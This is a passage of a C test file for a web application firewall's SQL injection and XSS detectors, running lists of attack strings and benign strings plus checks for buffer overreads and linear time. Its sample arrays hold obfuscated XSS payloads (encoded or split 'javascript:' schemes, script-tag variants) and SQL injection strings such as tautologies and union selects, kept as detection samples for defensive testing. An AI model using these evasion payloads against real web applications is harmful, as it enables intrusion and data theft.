    S("x=data:text/html,<b>"),
    S("java\tscript:alert(1)"),
    S("java\nscript:alert(1)"),
    S("jav&#x61;script:alert(1)"),
    S("&#106;avascript:alert(1)"),
    S("a&b javascript:alert(1)"),
    S("\x01javascript:alert(1)"),
    S("javascript&colon;alert(1)"),
    /* the start of a tag, and a string break */
    S("<script"),
    S("\xef\xbc\x9cscript>"),
    S("'-alert(1)-'"),
    S("\";alert(1)//"),
};

static const struct sample xss_short_way_benign[] = {
    S("on=1"),
    S("x.onload"),
    S("a = b"),
    S("online=1"),
    S("x onbogus=1"),
    S("document the cookie"),
    S("a.innerHTML"),
    S("{{ name }}"),
    S("${price}"),
    S("java script: alert"),
    S("javascript: the good parts"),
    S("data: 2024"),
    S("https://example.com/a?b=1&c=2"),
    S("mailto:a@example.com"),
    S("a&b"),
    S("&amp;"),
    S("x: y"),
    S("'quoted' text"),
    S("\"a\":\"b\""),
    S("5 < 6"),
    S("a.b.c"),
};

static size_t sample_len(const struct sample *s)
{
	return s->len ? s->len : strlen(s->s);
}

/* Printable form of a sample for the TAP line. */
static const char *show(const struct sample *s)
{
	static char buf[120];
	size_t i, n = 0, len = sample_len(s);

	for (i = 0; i < len && n + 5 < sizeof(buf); i++) {
		unsigned char c = (unsigned char)s->s[i];

		if (c >= 0x20 && c < 0x7f && c != '#') {
			buf[n++] = (char)c;
		} else {
			snprintf(buf + n, sizeof(buf) - n, "\\x%02x", c);
			n += 4;
		}
	}
	if (i < len && n + 4 < sizeof(buf)) {
		memcpy(buf + n, "...", 3);
		n += 3;
	}
	buf[n] = '\0';
	return buf;
}

/* Run fn on a heap copy of exactly len bytes, so that a read past the
 * end is caught by ASan. */
static int run_exact(int (*fn)(const char *, size_t), const char *s, size_t len)
{
	char *copy = malloc(len ? len : 1);
	int r;

	if (copy == NULL)
		abort();
	memcpy(copy, s, len);
	r = fn(copy, len);
	free(copy);
	return r;
}

static void check_list(const char *what, int (*fn)(const char *, size_t), const struct sample *list,
                       size_t n, int expect, int *count)
{
	size_t i;

	for (i = 0; i < n; i++) {
		int r = run_exact(fn, list[i].s, sample_len(&list[i]));

		ok(r == expect, "%s %s: %s", what, expect ? "detects" : "passes", show(&list[i]));
		*count += 1;
	}
}

/* Every prefix of every attack: no crash and no read past the length
 * (each prefix is its own allocation). */
static int prefixes_safe(int (*fn)(const char *, size_t), const struct sample *list, size_t n)
{
	size_t i, k;

	for (i = 0; i < n; i++)
		for (k = 0; k <= sample_len(&list[i]); k++)
			(void)run_exact(fn, list[i].s, k);
	return 1;
}

/* A long value of repeated pieces: detection still works at the end,
 * and the time stays linear (a loose bound, generous for sanitizers). */
static int long_value(int (*fn)(const char *, size_t), const char *piece, const char *tail,
                      int expect)
{
	size_t pl = strlen(piece), tl = strlen(tail), n = 20000, i;
	char *buf = malloc(pl * n + tl);
	clock_t t0;
	int r;

	if (buf == NULL)
		abort();
	for (i = 0; i < n; i++)
		memcpy(buf + i * pl, piece, pl);
	memcpy(buf + pl * n, tail, tl);
	t0 = clock();
	r = fn(buf, pl * n + tl);
	free(buf);
	if ((double)(clock() - t0) / CLOCKS_PER_SEC > 2.0)
		return 0;
	return r == expect;
}

int main(void)
{
	int na = 0, nb = 0, xa = 0, xb = 0;

	check_list("sqli", waf_detect_sqli, sqli_attacks,
	           sizeof(sqli_attacks) / sizeof(sqli_attacks[0]), 1, &na);
	check_list("sqli", waf_detect_sqli, sqli_benign,
	           sizeof(sqli_benign) / sizeof(sqli_benign[0]), 0, &nb);
	check_list("xss", waf_detect_xss, xss_attacks, sizeof(xss_attacks) / sizeof(xss_attacks[0]),
	           1, &xa);
	check_list("xss", waf_detect_xss, xss_benign, sizeof(xss_benign) / sizeof(xss_benign[0]), 0,
	           &xb);
	ok(na >= 80 && nb >= 80 && xa >= 80 && xb >= 80,
	   "at least 80 samples per list (sqli %d/%d, xss %d/%d)", na, nb, xa, xb);

	/* The short ways: their edges, both ways. */
	check_list("sqli scan word", waf_detect_sqli, sqli_scan_words,
	           sizeof(sqli_scan_words) / sizeof(sqli_scan_words[0]), 1, &na);
	check_list("sqli short way", waf_detect_sqli, sqli_short_way_attacks,
	           sizeof(sqli_short_way_attacks) / sizeof(sqli_short_way_attacks[0]), 1, &na);
	check_list("sqli short way", waf_detect_sqli, sqli_short_way_benign,
	           sizeof(sqli_short_way_benign) / sizeof(sqli_short_way_benign[0]), 0, &nb);
	check_list("xss short way", waf_detect_xss, xss_short_way_attacks,
	           sizeof(xss_short_way_attacks) / sizeof(xss_short_way_attacks[0]), 1, &xa);
	check_list("xss short way", waf_detect_xss, xss_short_way_benign,
	           sizeof(xss_short_way_benign) / sizeof(xss_short_way_benign[0]), 0, &xb);
	ok(long_value(waf_detect_sqli, "and then ", "x (select @@version)", 1),
	   "sqli: a select after '(' at the end of 180 KB of words");
	ok(long_value(waf_detect_sqli, "a/b ", "/1 or 1=1", 1),
	   "sqli: a path segment and a tautology after 20000 others");
	ok(long_value(waf_detect_sqli, "/x ", "", 0), "sqli: 20000 path segments in linear time");
	ok(long_value(waf_detect_sqli, "/x/**/", "", 0), "sqli: 20000 segments and comments");
	ok(long_value(waf_detect_sqli, "; x", "", 0), "sqli: 20000 ';' in linear time");
	ok(long_value(waf_detect_sqli, ";/**/", "x", 0), "sqli: 20000 ';' and comments");
	ok(long_value(waf_detect_sqli, "/ ", "x", 0), "sqli: 20000 '/' and spaces");
	ok(long_value(waf_detect_xss, "a=", "", 0), "xss: 20000 '=' in linear time");
	ok(long_value(waf_detect_xss, "x:", "", 0), "xss: 20000 ':' in linear time");
	ok(long_value(waf_detect_xss, "&x:", "", 0), "xss: 20000 '&' and ':' in linear time");
	ok(long_value(waf_detect_xss, "	:", "", 0), "xss: 20000 tabs and ':' in linear time");
	ok(long_value(waf_detect_xss, "{{", "", 0), "xss: 20000 '{{' in linear time");

	/* Cross checks: each detector leaves the other's benign text alone. */
	ok(!waf_detect_sqli("<b>bold</b>", 11), "sqli passes plain markup");
	ok(!waf_detect_xss("' or 1=1--", 10), "xss passes an SQL tautology");

	/* Edge cases. */
	ok(!waf_detect_sqli(NULL, 0) && !waf_detect_xss(NULL, 0), "NULL is no attack");
	ok(!waf_detect_sqli("", 0) && !waf_detect_xss("", 0), "empty is no attack");
	ok(!waf_detect_sqli("' or 1=1--", 0), "length 0 reads nothing");
	ok(waf_detect_sqli("' or 1=1-- and more text after", 10), "length bounds the sqli read");
	ok(!waf_detect_sqli("'", 1) && !waf_detect_sqli("\"", 1) && !waf_detect_sqli("'--", 2),
	   "lone quotes pass");
	ok(!waf_detect_xss("<", 1) && !waf_detect_xss("<s", 2) && !waf_detect_xss("&#", 2),
	   "truncated markup passes");
	ok(waf_detect_xss("<script", 7), "an unfinished <script is script");
	ok(prefixes_safe(waf_detect_sqli, sqli_attacks,
	                 sizeof(sqli_attacks) / sizeof(sqli_attacks[0])),
	   "every prefix of every sqli attack is read safely");
	ok(prefixes_safe(waf_detect_xss, xss_attacks, sizeof(xss_attacks) / sizeof(xss_attacks[0])),
	   "every prefix of every xss attack is read safely");
	ok(long_value(waf_detect_sqli, "lorem ipsum dolor, ", "' union select 1,2--", 1),
	   "sqli: an attack after 380 KB of prose is found, in linear time");
	ok(long_value(waf_detect_sqli, "/**/", "x", 0), "sqli: 20000 comments in linear time");
	ok(long_value(waf_detect_sqli, "'", "", 0), "sqli: 20000 quotes in linear time");
	ok(long_value(waf_detect_sqli, "(", "", 0), "sqli: 20000 parentheses in linear time");
	ok(long_value(waf_detect_sqli, "/*!", "", 0), "sqli: 20000 executable comments");
	ok(long_value(waf_detect_xss, "<a ", "", 0), "xss: 20000 unclosed tags in linear time");
	ok(long_value(waf_detect_xss, "<a title=\"", "", 0), "xss: 20000 open quotes");
	ok(long_value(waf_detect_xss, "&#106;", "", 0), "xss: 20000 entities in linear time");
	ok(long_value(waf_detect_xss, " on", "load=alert(1)", 1),
	   "xss: a handler after 60 KB of words is found");
	ok(long_value(waf_detect_xss, "=    ", "", 0), "xss: 20000 '=' and spaces");
	return done_testing();
}
